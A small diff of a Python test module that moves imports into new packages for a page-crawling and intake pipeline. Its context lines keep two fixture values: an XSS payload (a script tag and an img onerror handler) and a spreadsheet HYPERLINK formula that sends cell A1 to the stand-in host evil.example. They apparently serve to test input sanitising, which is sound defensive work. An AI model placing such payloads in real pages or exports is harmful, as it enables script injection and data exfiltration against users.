@@ -4,12 +4,12 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from crawler.replica_corpus import corpus_of_replica
-from pipelines.article import Article
-from pipelines.intake import Reading, store_reading
-from pipelines.page import Page
+from examples.replica.corpus import corpus_of_replica
+from pipelines.corpus.schema import open_corpus
+from pipelines.intake.intake import Reading, store_reading
 from pipelines.record import record_of
-from pipelines.schema import open_corpus
+from pipelines.values.article import Article
+from pipelines.values.page import Page
 
 SCRIPT = "<script>window.hurt = 1</script><img src=x onerror='window.hurt = 1'>"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"hỗ trợ")'
